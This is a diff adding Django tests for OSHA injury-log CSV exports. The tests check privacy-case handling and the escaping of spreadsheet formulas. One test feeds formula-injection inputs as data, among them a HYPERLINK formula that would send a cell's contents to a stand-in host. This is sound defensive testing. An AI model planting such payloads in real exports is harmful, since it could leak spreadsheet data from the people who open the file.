@@ -313,3 +313,79 @@ def test_it_records_who_opened_a_privacy_case_301(client, logs):
     assert response.status_code == 200
     assert "What happened?" in _pdf_text(response.content)
     assert PrivacyCaseView.objects.filter(incident=logs["private"], user=officer).exists()
+
+
+def _csv_rows(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.django_db
+def test_no_cell_of_the_csv_files_starts_a_spreadsheet_formula(client):
+    site = EstablishmentFactory()
+    logged_case(
+        site,
+        injured_name='=HYPERLINK("http://example.test/?"&A1,"open")',
+        injured_job_title="+1+1",
+        location_text="@SUM(1,1)",
+        injury_kind="=2+2",
+        narrative="-3+3 then he fell",
+        days_away=4,
+        severity=Severity.DAYS_AWAY,
+    )
+    client.force_login(user_with_role(Role.RISK_MANAGER))
+
+    log = _csv_rows(client.get(reverse("osha:log-csv", args=[site.pk, 2025])))[0]
+    case = _csv_rows(client.get(reverse("osha:ita-cases-csv", args=[site.pk, 2025])))[0]
+
+    assert log["employee_name"] == '\'=HYPERLINK("http://example.test/?"&A1,"open")'
+    assert (log["job_title"], log["where_occurred"]) == ("'+1+1", "'@SUM(1,1)")
+    assert log["description"].startswith("'=2+2")
+    assert (case["job_title"], case["incident_location"]) == ("'+1+1", "'@SUM(1,1)")
+    assert case["nar_what_happened"] == "'-3+3 then he fell"
+    assert log["days_away_count"] == case["dafw_num_away"] == "4"  # Numbers stay numbers.
+
+
+@pytest.mark.django_db
+def test_a_privacy_case_not_yet_coded_never_shows_its_narrative_on_the_log():
+    site = EstablishmentFactory()
+    uncoded = {"body_part": "", "injury_kind": ""}
+    logged_case(
+        site, privacy_case=True, narrative="Assaulted by a coworker in a locker.", **uncoded
+    )
+    logged_case(site, narrative="Fell from the loading dock.", **uncoded)
+
+    rows = {row.privacy_case: row for row in selectors.log_rows(establishment=site, year=2025)}
+
+    assert rows[True].description == selectors.PRIVACY_DESCRIPTION
+    assert rows[False].description == "Fell from the loading dock."
+
+
+def test_an_administrator_gets_the_case_file_without_privacy_case_narratives(client, logs):
+    logs["private"].narrative = "Under care after a traumatic call."
+    logs["private"].save()
+    client.force_login(user_with_role(Role.ADMINISTRATOR))
+
+    index = client.get(reverse("osha:index")).content.decode()
+    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))
+
+    rows = {row["case_number"]: row for row in _csv_rows(response)}
+    assert rows[logs["private"].reference]["nar_what_happened"] == ""
+    assert rows[logs["case"].reference]["nar_what_happened"] != ""
+    assert "traumatic call" not in response.content.decode()
+    assert "their narratives are left empty in the case CSV you download" in index
+    assert not PrivacyCaseView.objects.exists()
+
+
+def test_the_case_file_records_who_took_a_privacy_case_narrative(client, logs):
+    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
+    client.force_login(officer)
+
+    index = client.get(reverse("osha:index")).content.decode()
+    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))
+
+    rows = {row["case_number"]: row for row in _csv_rows(response)}
+    assert rows[logs["private"].reference]["nar_what_happened"] == logs["private"].narrative
+    assert "left empty" not in index
+    viewed = PrivacyCaseView.objects.get()
+    assert (viewed.incident, viewed.user) == (logs["private"], officer)
+    assert viewed.path == response.request["PATH_INFO"]
